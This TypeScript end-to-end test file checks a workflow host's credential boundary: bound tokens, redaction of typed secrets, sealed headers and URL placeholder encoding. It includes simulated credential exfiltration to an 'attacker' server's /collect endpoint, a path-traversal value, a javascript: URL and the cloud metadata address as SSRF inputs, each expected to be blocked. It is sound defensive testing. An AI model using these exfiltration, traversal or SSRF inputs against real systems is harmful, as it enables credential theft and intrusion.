// The capability boundary of a running host (`actionhost start` in its own process), driven over HTTP and the CLI
// as an admin and an editor would: a stored credential goes only where its binding says (Test Connection,
// executions, `actionhost invoke`), every derived form of a typed secret stays out of records, header values are
// sealed, and placeholders land in a URL as data. Real HTTP servers on loopback record what arrives.
import { createHash, randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Store } from '@actionhost/core';
import type { Json } from '@actionhost/sdk';
import { startHttpTarget, type HttpTarget } from '../support/http-target.ts';
import {
  ACTIONHOST_CLI,
  eventually,
  makeDataDir,
  runCli,
  startHostProcess,
  type HostProcess,
} from '../support/host-process.ts';

const STORED_TOKEN = `crm-${randomBytes(12).toString('hex')}`;
const ROTATED_TOKEN = `crm-next-${randomBytes(12).toString('hex')}`;
const TYPED_PASSWORD = `Typed pw/${randomBytes(6).toString('hex')}+&=`;
const HEADER_KEY_1 = `ocp-${randomBytes(10).toString('hex')}`;
const HEADER_KEY_2 = `xak-${randomBytes(10).toString('hex')}`;
const dataDir = makeDataDir();
const inputs = mkdtempSync(join(tmpdir(), 'actionhost-boundary-'));
let host: HostProcess;
let crm: HttpTarget; // the service the admin bound the credential to
let attacker: HttpTarget; // the editor's own server
let editorToken: string;
const answers: string[] = [];

type Api = <T = Json>(method: string, path: string, body?: unknown) => Promise<{ status: number; body: T }>;
const asAdmin: Api = async <T>(method: string, path: string, body?: unknown) =>
  remember(await host.api<T>(method, path, body));
const asEditor: Api = async <T>(method: string, path: string, body?: unknown) =>
  remember(await host.api<T>(method, path, body, editorToken));
function remember<T extends { body: unknown }>(response: T): T {
  answers.push(JSON.stringify(response.body));
  return response;
}

/** An editor token, written as the host stores tokens (sha256 of the secret) into the running host's database. */
function makeEditorToken(): string {
  const token = `ah_editor_${randomBytes(24).toString('hex')}`;
  const store = Store.open(join(dataDir, 'actionhost.db'));
  try {
    store.db
      .prepare('INSERT INTO api_tokens (id, name, role, token_hash, created_at) VALUES (?, ?, ?, ?, ?)')
      .run(`tok-${randomBytes(4).toString('hex')}`, 'e2e editor', 'editor', sha256(token), new Date().toISOString());
  } finally {
    store.close();
  }
  return token;
}
const sha256 = (text: string) => createHash('sha256').update(text, 'utf8').digest('hex');

function webhook(id: string, inputs: Record<string, unknown>, next: Record<string, string> = {}) {
  return { id, kind: 'action', title: `Run Webhook ${id}`, uses: '@actionhost/run-webhook@^1', inputs, next };
}

/**
 * The last request to /echo that `mine` recognises: every published workflow of this file triggers on each raised
 * request, so another test's workflow may reach /echo after this one's (the order depends on the machine's load).
 */
function lastEcho(mine: (headers: Record<string, string | string[] | undefined>) => boolean) {
  const found = crm.requestsTo('/echo').filter((request) => mine(request.headers));
  expect(found.length).toBeGreaterThan(0);
  return found.at(-1)!;
}

const basicUser = (headers: Record<string, string | string[] | undefined>) =>
  Buffer.from(String(headers.authorization ?? '').replace(/^Basic /, ''), 'base64')
    .toString()
    .split(':')[0];

function workflow(name: string, nodes: unknown[], kind = 'service-request') {
  return { name, module: 'request', trigger: { event: 'request.created', kind }, nodes };
}

async function publish(as: Api, definition: unknown): Promise<string> {
  const created = await as<{ id: string }>('POST', '/api/workflows', definition);
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  const published = await as('POST', `/api/workflows/${created.body.id}/publish`);
  expect(published.status, JSON.stringify(published.body)).toBe(200);
  return created.body.id;
}

type Step = {
  nodeId: string;
  path: string | null;
  error: { code: string } | null;
  output: { error: { code: string } };
  inputs: Json;
};
/** Raises a service request and waits for the execution of `workflowId` it triggers to finish. */
async function raise(workflowId: string, fields: Record<string, unknown> = {}) {
  const request = await asAdmin<{ internalId: number }>('POST', '/api/requests', {
    kind: 'service-request',
    subject: 'boundary check',
    ...fields,
  });
  expect(request.status).toBe(201);
  const id = request.body.internalId;
  const list = await eventually(
    () =>
      asAdmin<Array<{ id: string; status: string }>>('GET', `/api/executions?requestId=${id}&workflowId=${workflowId}`),
    (r) => r.body.length === 1 && !['running', 'queued'].includes(r.body[0].status),
  );
  const execution = await asAdmin<{ steps: Step[] }>('GET', `/api/executions/${list.body[0].id}`);
  const audit = await asAdmin<unknown[]>('GET', `/api/requests/${id}/audit`);
  return { requestId: id, steps: execution.body.steps, audit: audit.body };
}

beforeAll(async () => {
  [crm, attacker] = await Promise.all([startHttpTarget(), startHttpTarget()]);
  host = await startHostProcess({ dataDir, allowPrivate: '127.0.0.1', seed: false });
  editorToken = makeEditorToken();
  const created = await asAdmin('POST', '/api/credentials', {
    name: 'crm-token',
    type: 'bearer',
    secret: { token: STORED_TOKEN },
    binding: { urls: [`${crm.origin}/api/`], plugins: ['@actionhost/run-webhook'] },
  });
  expect(created.status).toBe(201);
}, 120_000);

afterAll(async () => {
  await host?.stop();
  await Promise.all([crm?.close(), attacker?.close()]);
  rmSync(dataDir, { recursive: true, force: true });
  rmSync(inputs, { recursive: true, force: true });
});

describe('a stored credential goes only where its binding says', () => {
  it('lets an editor see credential names and bindings, never a secret, and not create one', async () => {
    const listed = await asEditor<Array<{ name: string; binding: unknown }>>('GET', '/api/lookups/credentials');
    expect(listed.body).toEqual([
      expect.objectContaining({
        name: 'crm-token',
        binding: { urls: [`${crm.origin}/api/`], plugins: ['@actionhost/run-webhook'] },
      }),
    ]);
    const refused = await asEditor('POST', '/api/credentials', {
      name: 'mine',
      type: 'bearer',
      secret: { token: 'x-0123456789' },
    });
    expect(refused.status).toBe(403);
  });

  it("refuses an editor's Test Connection that would send it to the editor's own server", async () => {
    const created = await asEditor<{ id: string }>(
      'POST',
      '/api/workflows',
      workflow('Exfiltrate by Test Connection', [
        webhook('steal', {
          URL: `${attacker.origin}/collect`,
          'Request Type': 'GET',
          'Credential Type': 'By Credentials',
          Credential: 'crm-token',
        }),
      ]),
    );
    expect(created.status).toBe(201);
    const tested = await asEditor<{ path: string; output: { error?: { code: string } } }>(
      'POST',
      `/api/workflows/${created.body.id}/nodes/steal/test-connection`,
      {},
    );
    expect(tested.status).toBe(200);
    expect(tested.body.path).toBe('failure');
    expect(tested.body.output.error?.code).toBe('AH_CREDENTIAL_NOT_ALLOWED');
    expect(attacker.requests).toEqual([]);
  });

  it('refuses it in an execution, and sends it where it is bound', async () => {
    const id = await publish(
      asEditor,
      workflow('Credential in executions', [
        webhook(
          'bound',
          {
            URL: `${crm.origin}/api/contacts/#internalId#`,
            'Request Type': 'GET',
            'Credential Type': 'By Credentials',
            Credential: 'crm-token',
          },
          { success: 'steal' },
        ),
        webhook('steal', {
          URL: `${attacker.origin}/collect`,
          'Request Type': 'POST',
          'Request JSON': { id: '#internalId#' },
          'Credential Type': 'By Credentials',
          Credential: 'crm-token',
          'Proxy Server': '',
        }),
      ]),
    );
    const { requestId, steps } = await raise(id);
    expect(steps.map((step) => [step.nodeId, step.path])).toEqual([
      ['bound', 'success'],
      ['steal', 'failure'],
    ]);
    expect(steps[1].output.error.code).toBe('AH_CREDENTIAL_NOT_ALLOWED');
    expect(crm.requestsTo(`/api/contacts/${requestId}`).at(-1)!.headers.authorization).toBe(`Bearer ${STORED_TOKEN}`);
    expect(attacker.requests).toEqual([]);
  });

  it('never sends it through a proxy the operator has not approved', async () => {
    const id = await publish(
      asEditor,
      workflow('Credential through a proxy', [
        webhook('proxied', {
          URL: `${crm.origin}/api/contacts`,
          'Request Type': 'GET',
          'Credential Type': 'By Credentials',
          Credential: 'crm-token',
          'Proxy Server': attacker.origin,
        }),
      ]),
    );
    const { steps } = await raise(id);
    expect(steps[0].output.error.code).toBe('AH_CREDENTIAL_NOT_ALLOWED');
    expect(attacker.requests).toEqual([]);
  });

  it('refuses it in `actionhost invoke` too', async () => {
    const file = join(inputs, 'steal.json');
    writeFileSync(
      file,
      JSON.stringify({
        URL: `${attacker.origin}/collect`,
        'Credential Type': 'By Credentials',
        Credential: 'crm-token',
      }),
    );
    const result = await runCli(ACTIONHOST_CLI, [
      'invoke',
      '@actionhost/run-webhook@^1',
      '--input',
      file,
      '--data',
      dataDir,
      '--allow-private',
      '127.0.0.1',
    ]);
    expect(result.code, result.stderr).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({
      path: 'failure',
      output: { error: { code: 'AH_CREDENTIAL_NOT_ALLOWED' } },
    });
    expect(result.stdout + result.stderr).not.toContain(STORED_TOKEN);
    expect(attacker.requests).toEqual([]);
  });

  it('rotates in place: the next execution sends the new secret to the same binding', async () => {
    const rotated = await asAdmin('PUT', '/api/credentials/crm-token', {
      type: 'bearer',
      secret: { token: ROTATED_TOKEN },
    });
    expect(rotated.status).toBe(200);
    const id = await publish(
      asEditor,
      workflow('After rotation', [
        webhook('bound', {
          URL: `${crm.origin}/api/rotated/#internalId#`,
          'Credential Type': 'By Credentials',
          Credential: 'crm-token',
        }),
      ]),
    );
    const { requestId, steps } = await raise(id);
    expect(steps[0].path).toBe('success');
    expect(crm.requestsTo(`/api/rotated/${requestId}`)[0].headers.authorization).toBe(`Bearer ${ROTATED_TOKEN}`);
  });
});

describe('secrets typed into a node', () => {
  it('keeps every form of a typed Basic Auth password out of the execution and the Audit Trail', async () => {
    const id = await publish(
      asEditor,
      workflow('Echo Basic Auth', [
        webhook('echo', {
          URL: `${crm.origin}/echo`,
          'Request Type': 'POST',
          'Request JSON': { id: '#internalId#' },
          'Credential Type': 'Basic Auth',
          Username: 'svc-desk',
          Password: { $literal: TYPED_PASSWORD },
        }),
      ]),
    );
    const { steps, audit } = await raise(id);
    expect(steps[0].path).toBe('success');
    const echoed = lastEcho((headers) => basicUser(headers) === 'svc-desk');
    expect(echoed.headers.authorization).toBe(`Basic ${Buffer.from(`svc-desk:${TYPED_PASSWORD}`).toString('base64')}`);
    const recorded = JSON.stringify([steps, audit]);
    for (const form of secretForms(TYPED_PASSWORD, 'svc-desk')) expect(recorded).not.toContain(form);
    expect(recorded).toContain('[REDACTED]');
  });

  it('seals header values by default and still sends them', async () => {
    const created = await asEditor<{ id: string; definition: { nodes: Array<{ inputs: { Headers: unknown } }> } }>(
      'POST',
      '/api/workflows',
      workflow('Header keys', [
        webhook('keys', {
          URL: `${crm.origin}/echo`,
          Headers: {
            'Ocp-Apim-Subscription-Key': HEADER_KEY_1,
            'X-Auth-Key': HEADER_KEY_2,
            Accept: { $public: 'application/json' },
          },
        }),
      ]),
    );
    expect(created.body.definition.nodes[0].inputs.Headers).toEqual({
      'Ocp-Apim-Subscription-Key': { $sealed: expect.any(String) },
      'X-Auth-Key': { $sealed: expect.any(String) },
      Accept: { $public: 'application/json' },
    });
    expect((await asEditor('POST', `/api/workflows/${created.body.id}/publish`)).status).toBe(200);
    await asEditor('GET', `/api/workflows/${created.body.id}`);
    const { steps, audit } = await raise(created.body.id);
    expect(steps[0].path).toBe('success');
    const arrived = lastEcho((headers) => headers['ocp-apim-subscription-key'] !== undefined).headers;
    expect([arrived['ocp-apim-subscription-key'], arrived['x-auth-key'], arrived.accept]).toEqual([
      HEADER_KEY_1,
      HEADER_KEY_2,
      'application/json',
    ]);
    const recorded = JSON.stringify([steps, audit]);
    expect(recorded).not.toContain(HEADER_KEY_1);
    expect(recorded).not.toContain(HEADER_KEY_2);
  });

  it('sends "##" as "#" in a saved password and takes { "$literal": ... } as typed', async () => {
    const id = await publish(
      asEditor,
      workflow('Hash signs', [
        webhook('escaped', {
          URL: `${crm.origin}/echo`,
          'Credential Type': 'Basic Auth',
          Username: 'svc',
          Password: 'Rst!Passw0rd##42',
          Headers: { 'X-Token': 't##1' },
        }),
      ]),
    );
    await raise(id);
    const arrived = lastEcho((headers) => basicUser(headers) === 'svc').headers;
    expect(Buffer.from(String(arrived.authorization).slice(6), 'base64').toString()).toBe('svc:Rst!Passw0rd#42');
    expect(arrived['x-token']).toBe('t#1');
  });

  it('opens a typed secret only in its own node at its own origin: a copy or a moved URL sends nothing', async () => {
    const key = `bound-${randomBytes(10).toString('hex')}`;
    type Saved = { id: string; definition: { nodes: Array<{ inputs: { Headers: Record<string, unknown> } }> } };
    const created = await asAdmin<Saved>(
      'POST',
      '/api/workflows',
      workflow('Bound key', [webhook('bound', { URL: `${crm.origin}/echo`, Headers: { 'X-Api-Key': key } })]),
    );
    expect(created.status).toBe(201);
    const { definition } = (await asEditor<Saved>('GET', `/api/workflows/${created.body.id}`)).body;
    const node = definition.nodes[0];
    const copied = await asEditor<{ error: { code: string; details: { path: string } } }>(
      'POST',
      '/api/workflows',
      workflow('Mine', [
        webhook('mine', {
          URL: `${attacker.origin}/collect`,
          Headers: { 'X-Api-Key': node.inputs.Headers['X-Api-Key'] },
        }),
      ]),
    );
    expect([copied.status, copied.body.error.code, copied.body.error.details.path]).toEqual([
      400,
      'AH_SEALED_VALUE_INVALID',
      '/nodes/0/inputs/Headers/X-Api-Key',
    ]);
    const moved = await asEditor<{ error: { code: string } }>('PUT', `/api/workflows/${created.body.id}`, {
      ...definition,
      nodes: [{ ...node, inputs: { ...node.inputs, URL: `${attacker.origin}/collect` } }],
    });
    expect([moved.status, moved.body.error.code]).toEqual([400, 'AH_SEALED_VALUE_INVALID']);
    const before = crm.requestsTo('/echo').length;
    const tested = await asEditor('POST', `/api/workflows/${created.body.id}/nodes/bound/test-connection`, {
      sendRealRequest: true,
    });
    expect(tested.status, JSON.stringify(tested.body)).toBe(200);
    const sent = crm.requestsTo('/echo').slice(before);
    expect(sent.map((request) => request.headers['x-api-key'])).toEqual([key]);
    expect(attacker.requests).toEqual([]);
  });
});

describe('placeholders in a URL, end to end', () => {
  it('keeps a path traversal in its segment and sends "Printer on fire" encoded', async () => {
    const id = await publish(
      asEditor,
      workflow('Subject in the URL', [
        webhook('by-subject', { URL: `${crm.origin}/api/users/#subject#/profile?q=#subject#` }),
      ]),
    );
    const traversal = await raise(id, { subject: '../../admin/purge?all=true&x=' });
    expect(traversal.steps[0].path).toBe('success');
    const printer = await raise(id, { subject: 'Printer on fire' });
    expect(printer.steps[0].path).toBe('success');
    const paths = crm.requests.map((request) => request.path);
    expect(paths).toContain(
      '/api/users/..%2F..%2Fadmin%2Fpurge%3Fall%3Dtrue%26x%3D/profile?q=..%2F..%2Fadmin%2Fpurge%3Fall%3Dtrue%26x%3D',
    );
    expect(paths).toContain('/api/users/Printer%20on%20fire/profile?q=Printer%20on%20fire');
    expect(paths.filter((path) => path.startsWith('/admin'))).toEqual([]);
  });

  it('validates a whole-URL placeholder as a URL and keeps it under the egress policy', async () => {
    const id = await publish(
      asEditor,
      workflow('URL from the request', [webhook('anywhere', { URL: '#customFields.target#' })]),
    );
    const fine = await raise(id, { customFields: { target: `${crm.origin}/api/whole-url` } });
    expect(fine.steps[0].path).toBe('success');
    expect(crm.requestsTo('/api/whole-url')).toHaveLength(1);
    const notUrl = await raise(id, { customFields: { target: 'javascript:alert(1)' } });
    expect(notUrl.steps[0].error?.code).toBe('AH_PLACEHOLDER_VALUE_INVALID');
    const metadata = await raise(id, { customFields: { target: 'http://169.254.169.254/latest/meta-data/' } });
    expect(metadata.steps[0].output.error.code).toBe('AH_EGRESS_DENIED');
  });
});

describe('what the host keeps', () => {
  it('shows no stored or typed secret in any answer, log line or file of the data folder', async () => {
    expect(answers.length).toBeGreaterThan(10);
    const secrets = [
      STORED_TOKEN,
      ROTATED_TOKEN,
      HEADER_KEY_1,
      HEADER_KEY_2,
      ...secretForms(TYPED_PASSWORD, 'svc-desk'),
    ];
    for (const secret of secrets) {
      for (const answer of answers) expect(answer).not.toContain(secret);
      expect(host.output()).not.toContain(secret);
    }
    await host.stop();
    for (const file of filesUnder(dataDir)) {
      const bytes = readFileSync(file);
      for (const secret of secrets) expect(bytes.includes(secret), `${file} holds a secret`).toBe(false);
    }
  });
});

/** The spellings an echoing server could hand back: typed, percent-encoded, base64 alone and inside user:pass. */
function secretForms(password: string, user: string): string[] {
  return [
    password,
    encodeURIComponent(password),
    Buffer.from(password).toString('base64'),
    Buffer.from(`${user}:${password}`).toString('base64'),
  ];
}

function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? filesUnder(path) : [path];
  });
}
